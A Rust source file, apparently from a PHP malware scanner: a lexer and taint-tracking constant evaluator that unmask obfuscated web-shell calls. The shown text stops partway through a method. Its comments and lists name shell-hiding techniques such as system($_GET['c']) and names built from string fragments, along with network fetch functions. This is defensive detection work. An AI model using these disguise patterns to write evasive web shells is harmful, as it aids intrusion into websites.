//! PHP read as PHP: a lexer, and a constant evaluator that writes the file back out the way
//! it would run, so the rules judge what a call really calls and where its arguments come
//! from, whatever the disguise.
//!
//! Never executes anything. It knows literals (with every escape), concatenation (comments
//! between the parts are gone with the comments), string offsets (`$t{3}`, `$t[17]`), arrays of
//! fragments, `$GLOBALS[...]` (the same variables as the global scope's), `define()`d
//! constants, variables assigned once or appended to, and a handful of pure functions
//! (`chr`, `strrev`, `str_rot13`, `base64_decode`, `gzinflate`, `str_replace`, `implode`,
//! `pack('H*')`, XOR of two strings…). Values that come from the visitor's request (or from
//! a remote fetch) are *tainted*, and the taint follows them through any expression.
//!
//! The output ([`resolve`]) is PHP text: each known value written as a literal (a callee as a
//! bare name: `$f(…)` with `$f = 'sys'.'tem'` becomes `system(…)`), each tainted value as
//! `$_POST['…']` (request data) or `__REMOTE__` (fetched from the network), comments and
//! formatting dropped. The rule set runs on it as on any text.
//!
//! Bounded: input up to [`MAX_INPUT`], values up to [`MAX_VALUE`], output up to
//! [`MAX_OUTPUT`], evaluation depth [`MAX_DEPTH`]; anything beyond is "unknown".

use foldhash::{HashMap, HashSet};
use std::borrow::Cow;

use crate::engine::detect::decode;

mod flow;
mod functions;

/// Files larger than this are not resolved (the rules still read them as text).
pub const MAX_INPUT: usize = 4 << 20;
/// A value longer than this is "unknown".
pub const MAX_VALUE: usize = 1 << 20;
/// The resolved text stops here.
pub const MAX_OUTPUT: usize = 8 << 20;
/// Nesting of expressions the evaluator follows.
pub const MAX_DEPTH: usize = 48;

/// One token of PHP.
#[derive(Debug, Clone, PartialEq)]
pub enum Tok<'a> {
    /// Text outside `<?php … ?>`.
    Html(&'a [u8]),
    /// `$name` (without the `$`).
    Var(&'a [u8]),
    /// A name: function, constant, keyword.
    Ident(&'a [u8]),
    /// A string literal whose value is known (escapes undone; borrowed when it had none).
    Str(Cow<'a, [u8]>),
    /// A double-quoted or heredoc string with variables in it: value unknown, but the
    /// variables it names are kept (`"{$_GET['x']}"` is request data).
    Interp(Vec<&'a [u8]>, &'a [u8]),
    /// An integer literal.
    Num(i64),
    /// `` `…` ``: a shell command.
    Backtick(&'a [u8]),
    /// Operators and punctuation.
    Punct(&'a [u8]),
}

fn is_ident_start(b: u8) -> bool {
    b.is_ascii_alphabetic() || b == b'_' || b >= 0x80 || b == b'\\'
}

fn is_ident(b: u8) -> bool {
    is_ident_start(b) || b.is_ascii_digit()
}

const OPS: [&[u8]; 28] = [
    b"<<=", b">>=", b"**=", b"...", b"<=>", b"===", b"!==", b"??=", b"?->", b"==", b"!=", b"<>",
    b"<=", b">=", b"&&", b"||", b"->", b"=>", b"::", b".=", b"+=", b"-=", b"*=", b"/=", b"^=",
    b"++", b"--", b"??",
];

/// Splits PHP source into tokens. Comments and whitespace are dropped; an unterminated
/// string or comment runs to the end of the input.
pub fn lex(src: &[u8]) -> Vec<Tok<'_>> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < src.len() {
        i = lex_html(src, i, &mut out);
        i = lex_php(src, i, &mut out);
    }
    out
}

/// Inline HTML up to the next PHP opening tag; returns where the PHP code starts.
fn lex_html<'a>(src: &'a [u8], i: usize, out: &mut Vec<Tok<'a>>) -> usize {
    let rest = src.get(i..).unwrap_or_default();
    let mut k = 0;
    while let Some(p) = memchr::memmem::find(rest.get(k..).unwrap_or_default(), b"<?") {
        let at = k + p;
        let after = rest.get(at + 2..).unwrap_or_default();
        let tag = if after
            .get(..3)
            .is_some_and(|t| t.eq_ignore_ascii_case(b"php"))
        {
            5
        } else if after.first() == Some(&b'=') {
            out.push(Tok::Html(rest.get(..at).unwrap_or_default()));
            out.push(Tok::Ident(b"echo"));
            return i + at + 3;
        } else if after.first().is_none_or(|b| b.is_ascii_whitespace()) {
            2
        } else {
            k = at + 2;
            continue;
        };
        if at > 0 {
            out.push(Tok::Html(rest.get(..at).unwrap_or_default()));
        }
        return i + at + tag;
    }
    if !rest.is_empty() {
        out.push(Tok::Html(rest));
    }
    src.len()
}

/// PHP code up to `?>` (or the end); returns where the HTML starts again.
fn lex_php<'a>(src: &'a [u8], mut i: usize, out: &mut Vec<Tok<'a>>) -> usize {
    while let Some(&b) = src.get(i) {
        let next = src.get(i + 1).copied();
        match b {
            _ if b.is_ascii_whitespace() => i += 1,
            b'?' if next == Some(b'>') => {
                out.push(Tok::Punct(b";"));
                return i + 2;
            }
            b'#' if next != Some(b'[') => i = line_comment_end(src, i),
            b'/' if next == Some(b'/') => i = line_comment_end(src, i),
            b'/' if next == Some(b'*') => {
                i = memchr::memmem::find(src.get(i + 2..).unwrap_or_default(), b"*/")
                    .map_or(src.len(), |p| i + 2 + p + 2)
            }
            b'$' if next.is_some_and(is_ident_start) => {
                let end = scan_while(src, i + 1, is_ident);
                out.push(Tok::Var(src.get(i + 1..end).unwrap_or_default()));
                i = end;
            }
            b'\'' => {
                let (v, end) = single_quoted(src, i + 1);
                out.push(Tok::Str(v));
                i = end;
            }
            b'"' => {
                let end = string_end(src, i + 1, b'"');
                out.push(double_quoted(src.get(i + 1..end).unwrap_or_default()));
                i = end + 1;
            }
            b'`' => {
                let end = string_end(src, i + 1, b'`');
                out.push(Tok::Backtick(src.get(i + 1..end).unwrap_or_default()));
                i = end + 1;
            }
            b'<' if src.get(i..i + 3) == Some(b"<<<") => i = heredoc(src, i + 3, out),
            b'0'..=b'9' => i = number(src, i, out),
            _ if is_ident_start(b) => {
                let end = scan_while(src, i, is_ident);
                out.push(Tok::Ident(src.get(i..end).unwrap_or_default()));
                i = end;
            }
            _ => {
                let len = OPS
                    .iter()
                    .find(|op| op.first() == Some(&b) && src.get(i..i + op.len()) == Some(**op))
                    .map_or(1, |op| op.len());
                out.push(Tok::Punct(src.get(i..i + len).unwrap_or_default()));
                i += len;
            }
        }
    }
    src.len()
}

fn scan_while(src: &[u8], mut i: usize, f: fn(u8) -> bool) -> usize {
    while src.get(i).copied().is_some_and(f) {
        i += 1;
    }
    i
}

/// The end of a `//` or `#` comment: the end of the line, or a `?>` before it.
fn line_comment_end(src: &[u8], i: usize) -> usize {
    let mut k = i;
    while let Some(&b) = src.get(k) {
        if b == b'\n' || (b == b'?' && src.get(k + 1) == Some(&b'>')) {
            return k;
        }
        k += 1;
    }
    k
}

/// Index of the closing `quote` (escapes skipped), or the end of the input.
fn string_end(src: &[u8], mut i: usize, quote: u8) -> usize {
    while let Some(&b) = src.get(i) {
        if b == b'\\' {
            i += 2;
        } else if b == quote {
            return i;
        } else {
            i += 1;
        }
    }
    src.len()
}

fn single_quoted(src: &[u8], start: usize) -> (Cow<'_, [u8]>, usize) {
    let end = string_end(src, start, b'\'');
    let raw = src.get(start..end).unwrap_or_default();
    if memchr::memchr(b'\\', raw).is_none() {
        return (Cow::Borrowed(raw), end + 1);
    }
    let mut v = Vec::with_capacity(raw.len());
    let mut k = 0;
    while let Some(&b) = raw.get(k) {
        if b == b'\\' && matches!(raw.get(k + 1), Some(b'\\' | b'\'')) {
            v.extend(raw.get(k + 1));
            k += 2;
        } else {
            v.push(b);
            k += 1;
        }
    }
    (Cow::Owned(v), end + 1)
}

/// A double-quoted body: its value when it holds no variable, else the variables it names.
fn double_quoted(body: &[u8]) -> Tok<'_> {
    let mut vars = Vec::new();
    let mut k = 0;
    while let Some(&b) = body.get(k) {
        if b == b'\\' {
            k += 2;
            continue;
        }
        if b == b'$' && body.get(k + 1).copied().is_some_and(is_ident_start) {
            let end = scan_while(body, k + 1, is_ident);
            vars.push(body.get(k + 1..end).unwrap_or_default());
            k = end;
            continue;
        }
        k += 1;
    }
    if vars.is_empty() {
        if memchr::memchr(b'\\', body).is_none() {
            Tok::Str(Cow::Borrowed(body))
        } else {
            Tok::Str(Cow::Owned(decode::unescape_double(body)))
        }
    } else {
        Tok::Interp(vars, body)
    }
}

/// `<<<ID … ID`, `<<<"ID"`, `<<<'ID'` (nowdoc: no escapes).
fn heredoc<'a>(src: &'a [u8], i: usize, out: &mut Vec<Tok<'a>>) -> usize {
    let mut k = scan_while(src, i, |b| b == b' ' || b == b'\t');
    let quote = src.get(k).copied().filter(|q| *q == b'\'' || *q == b'"');
    if quote.is_some() {
        k += 1;
    }
    let id_end = scan_while(src, k, is_ident);
    let id = src.get(k..id_end).unwrap_or_default();
    let body_start = memchr::memchr(b'\n', src.get(id_end..).unwrap_or_default())
        .map_or(src.len(), |p| id_end + p + 1);
    if id.is_empty() {
        out.push(Tok::Punct(b"<<<"));
        return i;
    }
    // The closing identifier starts a line (PHP 7.3+ allows indentation before it).
    let mut line = body_start;
    let mut body_end = src.len();
    let mut after = src.len();
    while line < src.len() {
        let text_start = scan_while(src, line, |b| b == b' ' || b == b'\t');
        if src.get(text_start..text_start + id.len()) == Some(id)
            && !src
                .get(text_start + id.len())
                .copied()
                .is_some_and(is_ident)
        {
            body_end = line.saturating_sub(1).max(body_start);
            after = text_start + id.len();
            break;
        }
        line = memchr::memchr(b'\n', src.get(line..).unwrap_or_default())
            .map_or(src.len(), |p| line + p + 1);
    }
    let body = src.get(body_start..body_end).unwrap_or_default();
    out.push(if quote == Some(b'\'') {
        Tok::Str(Cow::Borrowed(body))
    } else {
        double_quoted(body)
    });
    after
}

fn number<'a>(src: &'a [u8], i: usize, out: &mut Vec<Tok<'a>>) -> usize {
    let end = scan_while(src, i, |b| {
        b.is_ascii_alphanumeric() || b == b'_' || b == b'.'
    });
    let text: String = src
        .get(i..end)
        .unwrap_or_default()
        .iter()
        .filter(|b| **b != b'_')
        .map(|b| char::from(*b))
        .collect();
    let lower = text.to_ascii_lowercase();
    let value = if let Some(h) = lower.strip_prefix("0x") {
        i64::from_str_radix(h, 16).ok()
    } else if let Some(b) = lower.strip_prefix("0b") {
        i64::from_str_radix(b, 2).ok()
    } else if let Some(o) = lower.strip_prefix("0o") {
        i64::from_str_radix(o, 8).ok()
    } else if lower.len() > 1 && lower.starts_with('0') && lower.bytes().all(|b| b.is_ascii_digit())
    {
        i64::from_str_radix(&lower, 8).ok()
    } else {
        lower.parse::<i64>().ok()
    };
    match value {
        Some(v) => out.push(Tok::Num(v)),
        None => out.push(Tok::Ident(src.get(i..end).unwrap_or_default())),
    }
    end
}

/// Where a tainted value comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Taint {
    /// The visitor's request (parameters, cookies, headers, the raw body, uploads).
    Request,
    /// Something fetched from another server.
    Remote,
}

/// What the evaluator knows of a value.
#[derive(Debug, Clone, PartialEq)]
pub enum Val {
    Str(Vec<u8>),
    Num(i64),
    Arr(Vec<(Val, Val)>),
    Tainted(Taint),
    /// `$GLOBALS` itself (or a variable holding it): its elements are the global variables.
    Globals,
    /// `$_SERVER`: request headers among server facts.
    Server,
    Unknown,
}

impl Val {
    fn as_bytes(&self) -> Option<Vec<u8>> {
        match self {
            Val::Str(s) => Some(s.clone()),
            Val::Num(n) => Some(n.to_string().into_bytes()),
            _ => None,
        }
    }

    fn is_known(&self) -> bool {
        matches!(self, Val::Str(_) | Val::Num(_) | Val::Arr(_))
    }

    fn taint(&self) -> Option<Taint> {
        match self {
            Val::Tainted(t) => Some(*t),
            Val::Arr(items) => items.iter().filter_map(|(_, v)| v.taint()).max(),
            _ => None,
        }
    }

    /// `$a[$k]` / `$s{$k}`: an array element, or one byte of a string.
    fn index(&self, key: &Val) -> Val {
        match (self, key) {
            // Past the end PHP gives "" (with a warning); a negative offset counts from it.
            (Val::Str(s), Val::Num(n)) => {
                let k = if *n < 0 {
                    i64::try_from(s.len()).ok().map(|l| l + n)
                } else {
                    Some(*n)
                };
                match k.and_then(|k| usize::try_from(k).ok()) {
                    Some(k) => s
                        .get(k)
                        .map_or(Val::Str(Vec::new()), |b| Val::Str(vec![*b])),
                    None => Val::Unknown,
                }
            }
            (Val::Arr(items), k) => items
                .iter()
                .find(|(ik, _)| same_key(ik, k))
                .map_or(Val::Unknown, |(_, v)| v.clone()),
            (Val::Tainted(t), _) => Val::Tainted(*t),
            _ => Val::Unknown,
        }
    }
}

fn same_key(a: &Val, b: &Val) -> bool {
    match (a, b) {
        (Val::Num(x), Val::Num(y)) => x == y,
        (Val::Str(x), Val::Str(y)) => x == y,
        (Val::Str(x), Val::Num(y)) | (Val::Num(y), Val::Str(x)) => x == y.to_string().as_bytes(),
        _ => false,
    }
}

/// The value of a superglobal or request-reading expression, if it is one.
fn source_var(name: &[u8]) -> Option<Taint> {
    matches!(
        name,
        b"_GET"
            | b"_POST"
            | b"_REQUEST"
            | b"_COOKIE"
            | b"_FILES"
            | b"_SESSION"
            | b"HTTP_GET_VARS"
            | b"HTTP_POST_VARS"
            | b"HTTP_COOKIE_VARS"
            | b"HTTP_RAW_POST_DATA"
    )
    .then_some(Taint::Request)
}

/// Functions whose result says nothing the request could abuse (numbers, hashes, checks,
/// escaping for output): request data through them is no longer tainted.
fn sanitizes(name: &[u8]) -> bool {
    let n = name.to_ascii_lowercase();
    matches!(
        n.as_slice(),
        b"intval"
            | b"absint"
            | b"floatval"
            | b"boolval"
            | b"is_numeric"
            | b"is_array"
            | b"isset"
            | b"empty"
            | b"count"
            | b"strlen"
            | b"md5"
            | b"sha1"
            | b"hash"
            | b"crc32"
            | b"in_array"
            | b"array_key_exists"
            | b"preg_match"
            | b"strpos"
            | b"stripos"
            | b"strcmp"
            | b"htmlspecialchars"
            | b"htmlentities"
            | b"esc_html"
            | b"esc_attr"
            | b"esc_url"
            | b"esc_sql"
            | b"esc_js"
            | b"esc_textarea"
            | b"sanitize_text_field"
            | b"sanitize_key"
            | b"sanitize_title"
            | b"sanitize_email"
            | b"sanitize_file_name"
            | b"wp_verify_nonce"
            | b"check_admin_referer"
            | b"is_email"
            | b"basename"
            | b"number_format"
            | b"date"
            | b"json_encode"
            | b"filter_var"
            | b"ctype_digit"
            | b"ctype_alnum"
            | b"wp_kses"
            | b"wp_kses_post"
            | b"addslashes"
            | b"urlencode"
            | b"rawurlencode"
            | b"mysql_real_escape_string"
            | b"mysqli_real_escape_string"
    )
}

/// Functions that hand their input back in another form (decoding, decrypting, trimming):
/// request data through them is still request data.
fn transparent(name: &[u8]) -> bool {
    let n = name.to_ascii_lowercase();
    decoder(&n)
        || matches!(
            n.as_slice(),
            b"stripslashes"
                | b"stripcslashes"
                | b"trim"
                | b"ltrim"
                | b"rtrim"
                | b"str_replace"
                | b"str_ireplace"
                | b"implode"
                | b"join"
                | b"strtolower"
                | b"strtoupper"
                | b"substr"
                | b"html_entity_decode"
                | b"htmlspecialchars_decode"
                | b"json_decode"
                | b"unserialize"
                | b"strtr"
                // byte by byte: the ciphers of encrypted-channel shells (`chr(ord($d[$i]) ^ …)`)
                | b"chr"
                | b"ord"
                | b"strval"
                | b"hexdec"
                | b"octdec"
                | b"bindec"
                | b"base_convert"
                | b"str_split"
                | b"sprintf"
                | b"explode"
                | b"current"
                | b"reset"
                | b"end"
                | b"array_pop"
                | b"array_shift"
                | b"array_values"
                | b"array_merge"
                | b"array_replace"
                | b"array_slice"
                | b"array_keys"
                | b"array_reverse"
                | b"array_filter"
                | b"str_pad"
                | b"gzinflate_"
                | b"xor"
        )
}

/// A call that reads the request, whatever its arguments say.
fn request_reader(name: &[u8], args: &[Val]) -> bool {
    let n = name.to_ascii_lowercase();
    let first = args.first().and_then(Val::as_bytes).unwrap_or_default();
    match n.as_slice() {
        b"getallheaders" | b"apache_request_headers" | b"http_get_request_body" => true,
        b"getenv" => first.starts_with(b"HTTP_") || first == b"QUERY_STRING",
        b"file_get_contents" | b"fopen" | b"file" | b"readfile" => {
            first.eq_ignore_ascii_case(b"php://input")
        }
        _ => false,
    }
}

/// A call that fetches from another server.
fn remote_reader(name: &[u8], args: &[Val]) -> bool {
    let n = name.to_ascii_lowercase();
    let first = args.first().and_then(Val::as_bytes).unwrap_or_default();
    let url = |s: &[u8]| {
        let l = s.to_ascii_lowercase();
        l.starts_with(b"http://") || l.starts_with(b"https://") || l.starts_with(b"ftp://")
    };
    match n.as_slice() {
        b"curl_exec" | b"wp_remote_retrieve_body" | b"fsockopen" | b"stream_socket_client" => true,
        b"file_get_contents" | b"fopen" | b"file" | b"readfile" | b"wp_remote_get"
        | b"wp_remote_post" | b"curl_init" => url(&first),
        _ => false,
    }
}

/// A call of a pure function with known arguments, evaluated.
fn pure_call(name: &[u8], args: &[Val]) -> Val {
    let n = String::from_utf8_lossy(name).to_ascii_lowercase();
    let s = |k: usize| args.get(k).and_then(Val::as_bytes);
    let num = |k: usize| match args.get(k) {
        Some(Val::Num(v)) => Some(*v),
        Some(Val::Str(b)) => std::str::from_utf8(b).ok()?.trim().parse().ok(),
        _ => None,
    };
    let out: Option<Vec<u8>> = match n.as_str() {
        "chr" => num(0).map(|v| vec![(v.rem_euclid(256)) as u8]),
        "range" => return range_call(args),
        "strlen" => return s(0).map_or(Val::Unknown, |b| Val::Num(b.len() as i64)),
        "isset" => return Val::Num(1),
        "count" | "sizeof" => {
            return match args.first() {
                Some(Val::Arr(items)) => Val::Num(items.len() as i64),
                _ => Val::Unknown,
            }
        }
        "ord" => {
            return s(0)
                .and_then(|b| b.first().map(|c| Val::Num(i64::from(*c))))
                .unwrap_or(Val::Unknown)
        }
        "strtolower" => s(0).map(|b| b.to_ascii_lowercase()),
        "strtoupper" => s(0).map(|b| b.to_ascii_uppercase()),
        "trim" | "ltrim" | "rtrim" if args.len() == 1 => s(0).map(|b| b.trim_ascii().to_vec()),
        "str_replace" | "str_ireplace" => replace_call(args, n == "str_ireplace"),
        "implode" | "join" => implode_call(args),
        "substr" => s(0).and_then(|b| substr(&b, num(1)?, num(2))),
        "str_repeat" => s(0)
            .zip(num(1))
            .filter(|(b, k)| b.len().saturating_mul(*k as usize) <= MAX_VALUE)
            .map(|(b, k)| b.repeat(k.max(0) as usize)),
        "strtr" if args.len() == 3 => s(0)
            .zip(s(1))
            .zip(s(2))
            .map(|((b, f), t)| strtr(&b, &f, &t)),
        "sprintf" => sprintf_call(args),
        "htmlspecialchars_decode" | "html_entity_decode" => s(0).map(|b| entities(&b)),
        "pack" if s(0).as_deref() == Some(b"H*") => s(1).and_then(|h| decode::apply("hex2bin", &h)),
        "hexdec" => {
            return s(0)
                .and_then(|h| i64::from_str_radix(std::str::from_utf8(&h).ok()?.trim(), 16).ok())
                .map_or(Val::Unknown, Val::Num)
        }
        "explode" => {
            return s(0)
                .zip(s(1))
                .filter(|(d, _)| !d.is_empty())
                .map_or(Val::Unknown, |(d, b)| {
                    Val::Arr(
                        split_bytes(&b, &d)
                            .into_iter()
                            .enumerate()
                            .map(|(k, p)| (Val::Num(k as i64), Val::Str(p)))
                            .collect(),
                    )
                })
        }
        "array_reverse" => {
            return match args.first() {
                Some(Val::Arr(items)) => Val::Arr(
                    items
                        .iter()
                        .rev()
                        .enumerate()
                        .map(|(k, (_, v))| (Val::Num(k as i64), v.clone()))
                        .collect(),
                ),
                _ => Val::Unknown,
            }
        }
        _ if args.len() == 1 => s(0).and_then(|b| decode::apply(&n, &b)),
        _ => None,
    };
    out.filter(|v| v.len() <= MAX_VALUE)
        .map_or(Val::Unknown, Val::Str)
}

/// `range('a', 'z')`, `range(0, 9)`: a short list of characters or numbers.
fn range_call(args: &[Val]) -> Val {
    let end = |v: &Val| match v {
        Val::Num(n) => Some((*n, false)),
        Val::Str(s) if s.len() == 1 => s.first().map(|b| (i64::from(*b), true)),
        Val::Str(s) => std::str::from_utf8(s)
            .ok()?
            .trim()
            .parse()
            .ok()
            .map(|n| (n, false)),
        _ => None,
    };
    let (Some((a, chars)), Some((b, _))) = (args.first().and_then(end), args.get(1).and_then(end))
    else {
        return Val::Unknown;
    };
    let step = match args.get(2) {
        Some(Val::Num(s)) if *s != 0 => s.unsigned_abs().min(1 << 20) as i64,
        None => 1,
        _ => return Val::Unknown,
    };
    if (a - b).abs() / step > 4096 {
        return Val::Unknown;
    }
    let dir = if a <= b { step } else { -step };
    let mut items = Vec::new();
    let mut v = a;
    while (dir > 0 && v <= b) || (dir < 0 && v >= b) {
        let item = if chars {
            Val::Str(vec![v.rem_euclid(256) as u8])
        } else {
            Val::Num(v)
        };
        items.push((Val::Num(items.len() as i64), item));
        v += dir;
    }
    Val::Arr(items)
}

/// `&quot;`, `&lt;`, `&gt;`, `&amp;`, `&#39;` and numeric entities undone.
fn entities(b: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(b.len());
    let mut k = 0;
    while let Some(&c) = b.get(k) {
        if c == b'&' {
            let rest = b.get(k..).unwrap_or_default();
            let named: [(&[u8], u8); 6] = [
                (b"&quot;", b'"'),
                (b"&lt;", b'<'),
                (b"&gt;", b'>'),
                (b"&amp;", b'&'),
                (b"&#39;", b'\''),
                (b"&apos;", b'\''),
            ];
            if let Some((e, v)) = named.iter().find(|(e, _)| rest.starts_with(e)) {
                out.push(*v);
                k += e.len();
                continue;
            }
            if rest.get(1) == Some(&b'#') {
                let end = rest.iter().position(|x| *x == b';').filter(|p| *p <= 8);
                let num = end
                    .and_then(|p| std::str::from_utf8(rest.get(2..p)?).ok())
                    .and_then(|s| s.parse::<u32>().ok());
                if let (Some(p), Some(n)) = (end, num) {
                    out.push((n & 0xff) as u8);
                    k += p + 1;
                    continue;
                }
            }
        }
        out.push(c);
        k += 1;
    }
    out
}

fn split_bytes(b: &[u8], d: &[u8]) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut start = 0;
    for p in memchr::memmem::find_iter(b, d) {
        if p < start {
            continue;
        }
        out.push(b.get(start..p).unwrap_or_default().to_vec());
        start = p + d.len();
        if out.len() > 10_000 {
            break;
        }
    }
    out.push(b.get(start..).unwrap_or_default().to_vec());
    out
}

fn substr(b: &[u8], start: i64, len: Option<i64>) -> Option<Vec<u8>> {
    let n = b.len() as i64;
    let from = if start < 0 {
        (n + start).max(0)
    } else {
        start.min(n)
    };
    let to = match len {
        None => n,
        Some(l) if l < 0 => (n + l).max(from),
        Some(l) => (from + l).min(n),
    };
    b.get(from as usize..to as usize).map(<[u8]>::to_vec)
}

fn strtr(b: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    b.iter()
        .map(|c| {
            from.iter()
                .position(|f| f == c)
                .and_then(|k| to.get(k))
                .copied()
                .unwrap_or(*c)
        })
        .collect()
}

fn replace_call(args: &[Val], ci: bool) -> Option<Vec<u8>> {
    let subject = args.get(2)?.as_bytes()?;
    let pairs: Vec<(Vec<u8>, Vec<u8>)> = match (args.first()?, args.get(1)?) {
        (Val::Arr(f), t) => f
            .iter()
            .enumerate()
            .map(|(k, (_, fv))| {
                let to = match t {
                    Val::Arr(ts) => ts
                        .get(k)
                        .and_then(|(_, v)| v.as_bytes())
                        .unwrap_or_default(),
                    other => other.as_bytes().unwrap_or_default(),
                };
                fv.as_bytes().map(|fb| (fb, to))
            })
            .collect::<Option<_>>()?,
        (f, t) => vec![(f.as_bytes()?, t.as_bytes()?)],
    };
    let mut cur = subject;
    for (from, to) in pairs {
        if from.is_empty() {
            continue;
        }
        cur = replace_bytes(&cur, &from, &to, ci);
        if cur.len() > MAX_VALUE {
            return None;
        }
    }
    Some(cur)
}

fn replace_bytes(hay: &[u8], from: &[u8], to: &[u8], ci: bool) -> Vec<u8> {
    let mut out = Vec::with_capacity(hay.len());
    let mut k = 0;
    while k < hay.len() {
        let here = hay.get(k..k + from.len());
        let hit = here.is_some_and(|h| {
            if ci {
                h.eq_ignore_ascii_case(from)
            } else {
                h == from
            }
        });
        if hit {
            out.extend_from_slice(to);
            k += from.len();
        } else {
            out.extend(hay.get(k));
            k += 1;
        }
    }
    out
}

fn implode_call(args: &[Val]) -> Option<Vec<u8>> {
    let (glue, arr) = match (args.first()?, args.get(1)) {
        (Val::Arr(a), None) => (Vec::new(), a),
        (g, Some(Val::Arr(a))) => (g.as_bytes()?, a),
        (Val::Arr(a), Some(g)) => (g.as_bytes()?, a),
        _ => return None,
    };
    let parts: Option<Vec<Vec<u8>>> = arr.iter().map(|(_, v)| v.as_bytes()).collect();
    Some(parts?.join(glue.as_slice()))
}

fn sprintf_call(args: &[Val]) -> Option<Vec<u8>> {
    let fmt = args.first()?.as_bytes()?;
    let mut out = Vec::new();
    let mut next = 1;
    let mut k = 0;
    while let Some(&b) = fmt.get(k) {
        if b != b'%' {
            out.push(b);
            k += 1;
            continue;
        }
        match fmt.get(k + 1) {
            Some(b'%') => out.push(b'%'),
            Some(b's' | b'd') => {
                out.extend(args.get(next)?.as_bytes()?);
                next += 1;
            }
            Some(b'c') => {
                let v = match args.get(next)? {
                    Val::Num(n) => *n,
                    _ => return None,
                };
                out.push(v.rem_euclid(256) as u8);
                next += 1;
            }
            _ => return None,
        }
        k += 2;
    }
    Some(out)
}

fn xor(a: &[u8], b: &[u8]) -> Vec<u8> {
    a.iter().zip(b).map(|(x, y)| x ^ y).collect()
}

/// One evaluated expression: its value, where it ends, and whether anything in it was
/// resolved (a variable or constant looked up, a function evaluated, literals joined), so
/// that writing it back out says more than the source did.
struct Ev {
    val: Val,
    end: usize,
    resolved: bool,
    /// Its taint came through a call of an unknown function (`system($_GET['c'])`): the
    /// call is code to show as it is, not data to replace by its source.
    through_call: bool,
    /// Something in it was disguised: a name built from parts, a decoded string, a callee
    /// held in a variable, `$GLOBALS` indirection, a header read through `getenv`. Plain
    /// data flow (`$c = $_GET['c']; system($c);`) is not a disguise.
    disguise: bool,
}

impl Ev {
    fn unknown(end: usize) -> Ev {
        Ev {
            val: Val::Unknown,
            end,
            resolved: false,
            through_call: false,
            disguise: false,
        }
    }

    fn new(val: Val, end: usize, resolved: bool) -> Ev {
        Ev {
            val,
            end,
            resolved,
            through_call: false,
            disguise: false,
        }
    }

    fn disguised(self) -> Ev {
        Ev {
            disguise: true,
            ..self
        }
    }
}

/// A function body's variables (the file's top level is the first scope).
#[derive(Default)]
struct Scope {
    vars: HashMap<Vec<u8>, Val>,
    /// Names this function declared `global`.
    globals: Vec<Vec<u8>>,
    /// Brace depth at which the body opened.
    depth: usize,
}

/// Special arrays: `$GLOBALS` (the top level's variables) and `$_SERVER` (request headers
/// among server facts).
const GLOBALS: &[u8] = b"GLOBALS";
const SERVER: &[u8] = b"_SERVER";

struct Resolver<'t, 'a> {
    toks: &'t [Tok<'a>],
    scopes: Vec<Scope>,
    consts: HashMap<Vec<u8>, Val>,
    /// Evaluation steps left for the whole file: bounds the work whatever the input (copies
    /// of big values count by their size).
    fuel: std::cell::Cell<usize>,
    /// Variables whose value was worked out from a disguise.
    disguised_vars: HashSet<Vec<u8>>,
    /// Code strings handed to `eval`/`assert` whose value is known: read as PHP in turn.
    nested: Vec<Vec<u8>>,
    /// The file's own functions, read where they are called (see [`functions`]).
    fns: functions::Functions,
    /// Code run by `eval`/`assert`/`create_function` was decoded at run time.
    hidden_code: bool,
    /// A command function (`system`, `shell_exec`…) was called under a name worked out from
    /// a disguise (`$t{0}.$t{8}…`).
    hidden_command: bool,
    /// Variables assigned the result of a decoder (`$c = base64_decode(…)`).
    decoded_vars: HashSet<Vec<u8>>,
    /// `extract($_REQUEST)` ran at the top level: any variable never assigned there holds
    /// whatever the visitor sent under its name.
    extracted: bool,
    /// Object properties the file sets straight from the request (`$o->p = &$_POST['x'];`):
    /// read anywhere (`$this->p` in a destructor), they are request data.
    tainted_props: HashSet<Vec<u8>>,
}

/// An assignment read, stored once the main pass has walked its value (`end`).
struct Pending {
    end: usize,
    target: Target,
    val: Val,
    disguise: bool,
}

/// What [`Resolver::statement`] found at the start of a statement.
enum Start {
    /// A `return` in a body read for a call, with its value.
    Return(Ev),
    /// Read already: go on there.
    Next(usize),
    /// An assignment whose value starts there.
    Assigning(usize, Pending),
    /// Nothing special: read on token by token.
    Plain,
}

/// How [`Resolver::run`] reads its tokens.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Mode {
    /// The file (or a code string) as it is written: every token once, in order.
    File,
    /// A user function's body read for one call (see [`functions`]).
    Body,
}

fn punct(t: Option<&Tok>, p: &[u8]) -> bool {
    matches!(t, Some(Tok::Punct(x)) if *x == p)
}

fn ident_is(t: Option<&Tok>, name: &[u8]) -> bool {
    matches!(t, Some(Tok::Ident(x)) if x.eq_ignore_ascii_case(name))
}

fn server_key_is_request(key: &[u8]) -> bool {
    key.starts_with(b"HTTP_")
        || matches!(
            key,
            b"QUERY_STRING"
                | b"REQUEST_URI"
                | b"PATH_INFO"
                | b"PHP_AUTH_USER"
                | b"PHP_AUTH_PW"
                | b"argv"
        )
}

impl<'t, 'a> Resolver<'t, 'a> {
    fn tok(&self, i: usize) -> Option<&'t Tok<'a>> {
        self.toks.get(i)
    }

    fn charge(&self, steps: usize) {
        self.fuel.set(self.fuel.get().saturating_sub(steps));
    }

    /// A value's copy, paid for by its size.
    fn copied(&self, v: &Val) -> Val {
        let size = match v {
            Val::Str(s) => s.len(),
            Val::Arr(items) => items.len().saturating_mul(16),
            _ => 0,
        };
        self.charge(size / 64 + 1);
        if self.fuel.get() == 0 {
            return Val::Unknown;
        }
        v.clone()
    }

    fn lookup(&self, name: &[u8]) -> Val {
        if let Some(t) = source_var(name) {
            return Val::Tainted(t);
        }
        let top = self.scopes.len() <= 1;
        let Some(scope) = self.scopes.last() else {
            return Val::Unknown;
        };
        if let Some(v) = scope.vars.get(name) {
            return self.copied(v);
        }
        if !top && scope.globals.iter().any(|g| g == name) {
            if let Some(v) = self.scopes.first().and_then(|s| s.vars.get(name)) {
                return self.copied(v);
            }
        }
        if top && self.extracted && name != b"this" {
            return Val::Tainted(Taint::Request);
        }
        Val::Unknown
    }

    /// A variable's value where it is kept (no copy): for reading one element or the length
    /// of a big value, as decoder loops do at every turn.
    fn var_ref(&self, name: &[u8]) -> Option<&Val> {
        if source_var(name).is_some() || name == GLOBALS || name == SERVER {
            return None;
        }
        let scope = self.scopes.last()?;
